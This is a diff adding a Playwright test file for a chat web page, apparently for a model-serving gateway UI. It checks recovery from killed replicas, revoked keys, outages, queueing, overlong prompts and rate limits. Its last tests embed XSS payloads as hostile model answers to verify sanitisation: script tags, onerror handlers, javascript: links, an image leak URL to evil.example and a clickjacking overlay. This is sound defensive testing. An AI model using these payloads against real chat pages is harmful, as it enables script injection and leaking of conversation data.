@@ -1,0 +1,240 @@
+"""What goes wrong around the chat page, in a real Chromium: refusals, losses, waits, and answers that attack it."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+from chat_page_driver import Chat, People, violations
+from chat_page_fixtures import browser_fixture, cookies_fixture, people_fixture, rig_fixture  # noqa: F401
+from chat_page_rig import START_S, Answer, ChatPage, Gate
+from chromium import WAIT_S
+from playwright.sync_api import expect
+
+pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
+
+
+def test_killed_replica_leaves_the_text_and_offers_to_go_on(people: People, rig: ChatPage) -> None:
+    rig.answers["long"] = Answer(("Half of it,", Gate()))
+    chat = people.chat()
+    chat.ask("long")
+    expect(chat.conversation).to_contain_text("Half of it,")
+    rig.kill_replicas()
+    expect(chat.error).to_be_visible()
+    expect(chat.conversation).to_contain_text("Half of it,")
+    chat.wait_over()
+    rig.answers["Half of it,"] = Answer((" and the other half.",))  # the answer to go on with is sent as it is
+    rig.add_replica()
+    chat.act("continue").click()
+    expect(chat.conversation).to_contain_text("Half of it, and the other half.")
+    expect(chat.error).to_have_count(0)
+    chat.wait_over()
+    assert chat.leaf["text"] == "Half of it, and the other half."
+
+
+def test_killed_page_process_comes_back_with_all_that_was_there(people: People, rig: ChatPage) -> None:
+    rig.answers["long"] = Answer(("Half of it", Gate()))
+    chat = people.chat()
+    chat.ask_and_wait("hello")
+    chat.ask("long")
+    chat.wait_kept("Half of it")
+    chat.box.fill("not sent yet")
+    with chat.page.expect_navigation(timeout=1000 * (START_S + WAIT_S)):  # by itself, as soon as the process answers
+        rig.kill_page()
+        rig.start_page()
+    expect(chat.conversation).to_contain_text("Half of it")
+    expect(chat.box).to_have_value("not sent yet")
+    chat.box.press("Enter")
+    expect(chat.conversation).to_contain_text("You said: not sent yet")
+
+
+def test_login_wants_a_key_that_the_gateway_takes(people: People, rig: ChatPage) -> None:
+    key = rig.make_key("bob")
+    page = people.tab(is_logged_in=False)
+    expect(page.get_by_label("API key")).to_be_focused()
+    assert violations(page) == []
+    page.keyboard.type("wrong")
+    page.keyboard.press("Enter")
+    expect(page.get_by_role("alert")).to_contain_text("key")
+    page.get_by_label("API key").fill(key)
+    page.keyboard.press("Enter")
+    expect(page.locator("#penstock-message textarea")).to_be_visible()
+    assert key not in page.content()
+    Chat(page, rig).ask_and_wait("hello")
+    rig.wait_until(lambda: rig.n_counted("bob") == 1, "the question is counted for who asked it")
+    cookie = next(cookie for cookie in page.context.cookies() if cookie["name"].startswith("penstock-ui"))
+    assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Lax")
+
+
+def test_key_that_is_revoked_while_chatting_leads_back_to_the_login(people: People, rig: ChatPage) -> None:
+    key = rig.make_key("carol")
+    chat = people.chat(is_logged_in=False, url=f"{rig.url}#key={key}")
+    chat.ask_and_wait("hello")
+    rig.revoke("carol")
+    chat.ask("are you there?")
+    chat.page.get_by_label("API key").fill(rig.make_key("carol2"))
+    chat.page.keyboard.press("Enter")
+    expect(chat.conversation).to_contain_text("You said: hello")
+    # What the page learned first decides: the question was sent and failed, or it was not sent and is still typed.
+    expect(chat.box).to_be_visible()
+    rig.wait_until(lambda: "are you there?" in chat.box.input_value() + chat.conversation.inner_text(), "it is kept")
+
+
+def test_gateway_that_is_away_is_said_and_comes_back_without_a_reload(people: People, rig: ChatPage) -> None:
+    rig.stop_gateway()
+    try:
+        chat = people.chat()
+        expect(chat.chip).to_have_text("offline")
+        chat.ask("hello")
+        expect(chat.error).to_be_visible()
+        expect(chat.conversation).to_contain_text("hello")
+        chat.wait_over()
+    finally:
+        rig.start_gateway()
+    expect(chat.chip).to_have_text("ready")
+    chat.act("retry").last.click()
+    expect(chat.conversation).to_contain_text("You said: hello")
+    expect(chat.error).to_have_count(0)
+
+
+def test_wait_for_a_replica_is_told_with_its_shards(people: People, rig: ChatPage) -> None:
+    rig.stop_gateway()
+    rig.start_gateway(is_ready=False)
+    try:
+        progress = {"stage": "loading weights", "shards_done": 17, "shards_total": 30, "fraction": 0.57, "eta_s": 40.0}
+        rig.announce("loading", progress=progress)
+        chat = people.chat()
+        expect(chat.chip).to_contain_text("17/30")
+        chat.ask("hello")
+        expect(chat.clock).to_have_text(re.compile(r"waiting for a replica: loading 17/30 shards, about \d+ s · \d+ s"))
+        rig.add_replica()
+        expect(chat.conversation).to_contain_text("You said: hello")
+        expect(chat.chip).to_have_text("ready")
+    finally:
+        rig.stop_gateway()
+        rig.start_gateway()
+
+
+@pytest.mark.nightly
+def test_place_in_the_queue_is_told(people: People, rig: ChatPage) -> None:
+    gate = Gate()
+    rig.answers["long"] = Answer(("Once", gate))
+    rig.stop_gateway()
+    rig.start_gateway(max_in_flight=1)
+    try:
+        chats = [people.chat() for _ in range(3)]
+        chats[0].ask("long")
+        expect(chats[0].conversation).to_contain_text("Once")
+        chats[1].ask("second")
+        expect(chats[1].clock).to_contain_text("in the queue")
+        chats[2].ask("third")
+        expect(chats[2].clock).to_contain_text("in the queue: 1 before you")
+        gate.open()
+        expect(chats[2].conversation).to_contain_text("You said: third")
+    finally:
+        rig.stop_gateway()
+        rig.start_gateway()
+
+
+TOO_LONG = (
+    "This model's maximum context length is 1024 tokens. However, you requested 1612 tokens (1100 in the messages, 512 "
+    "in the completion). Please reduce the length of the messages or completion."
+)
+
+
+def test_prompt_that_is_too_long_can_leave_out_the_oldest(people: People, rig: ChatPage) -> None:
+    chat = people.chat()
+    chat.ask_and_wait("the oldest")
+    rig.answers["too much"] = Answer((TOO_LONG,), status=400)
+    chat.ask("too much")
+    expect(chat.error).to_contain_text("588 tokens too long")
+    chat.wait_over()
+    rig.answers.clear()
+    chat.act("shrink").click()
+    expect(chat.conversation).to_contain_text("You said: too much")
+    assert "the oldest" not in json.dumps(rig.engine.asked[-1].body["messages"])
+
+
+@pytest.mark.nightly
+def test_overload_is_told_with_a_countdown_and_asked_again(people: People, rig: ChatPage) -> None:
+    for question, after_s in (("busy", 3600), ("still busy", 5)):
+        refused = Answer(("too many requests",), status=429, headers={"Retry-After": str(after_s)})
+        rig.answers[question] = refused
+    chat = people.chat()
+    chat.ask("busy")
+    again = chat.error.locator("button[data-act=retry]")
+    expect(again).to_contain_text(re.compile(r"by itself in \d+ s"))
+    chat.wait_over()
+    del rig.answers["busy"]
+    again.click()
+    expect(chat.conversation).to_contain_text("You said: busy")
+    chat.wait_answered()
+    chat.ask("still busy")
+    expect(chat.error).to_be_visible()
+    del rig.answers["still busy"]
+    expect(chat.conversation).to_contain_text("You said: still busy")
+
+
+HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1">
+<svg onload="window.hacked = 1"><style>@import url(http://evil.example/a.css); body { display: none }</style>
+[link](javascript:window.hacked=1) ![image](https://evil.example/leak.png?words) [a](data:text/html,<script>1</script>)
+<link rel=stylesheet href=https://evil.example/b.css><iframe src=https://evil.example></iframe>
+<form action=https://evil.example><button>go</button></form> <a href="https://evil.example/" ping="https://evil.example">x</a>
+
+| <b onmouseover=window.hacked=1>table</b> | ![i][ref] |
+|---|---|
+| `<img src=x onerror=window.hacked=1>` | <video src=https://evil.example/v> |
+
+[ref]: https://evil.example/ref.png
+
+$\\href{javascript:window.hacked=1}{math}$ $\\includegraphics{https://evil.example/i.png}$
+
+```html
+<script>window.hacked = 1</script>
+```
+
+```mermaid
+graph LR; A-->B["<img src=x onerror=window.hacked=1>"]; click A "javascript:window.hacked=1"
+```
+The end of it."""
+
+
+# Our reader of Markdown takes the last line for code, the page's does not.
+COVER = """> - ```
+<form action=logout method=post><button>go</button></form>
+<a href=https://evil.example style="position:fixed;inset:0;z-index:9999">x</a>
+"""
+
+
+def test_html_that_gets_into_an_answer_stays_in_its_box(people: People, rig: ChatPage) -> None:
+    rig.answers[COVER] = Answer((COVER,))
+    chat = people.chat()
+    chat.ask(COVER)
+    chat.wait_answered()
+    chat.page.evaluate("document.querySelectorAll('.md form').forEach((form) => form.requestSubmit())")
+    chat.ask_and_wait("hello")
+    chat.new()  # a click, which a link over the page would get
+    expect(chat.figures).to_have_count(0)
+    assert chat.page.url == rig.url
+
+
+def test_hostile_answer_does_nothing_and_asks_no_other_host(people: People, rig: ChatPage) -> None:
+    call = {"index": 0, "id": "c", "type": "function", "function": {"name": HOSTILE, "arguments": HOSTILE}}
+    pieces = [HOSTILE[i : i + 40] for i in range(0, len(HOSTILE), 40)]
+    rig.answers[HOSTILE] = Answer(({"reasoning": HOSTILE}, *pieces, {"tool_calls": [call]}))
+    chat = people.chat()
+    chat.ask(HOSTILE)
+    chat.wait_answered()
+    expect(chat.conversation).to_contain_text("The end of it.")
+    for fold in chat.conversation.locator(".thought-group > .title").all():
+        fold.click()
+    expect(chat.conversation.locator("[aria-expanded=true]")).to_have_count(2)
+    for link in chat.conversation.get_by_role("link").all():
+        address = link.get_attribute("href") or ""
+        assert address.startswith(("https://", "http://", "#", "login")), address
+    assert chat.page.evaluate("window.hacked ?? null") is None
+    chat.page.reload()
+    expect(chat.conversation).to_contain_text("The end of it.")
+    assert chat.page.evaluate("window.hacked ?? null") is None
+    assert chat.page.locator("#penstock-chat :is(script, iframe, form, video, object, embed, link)").count() == 0
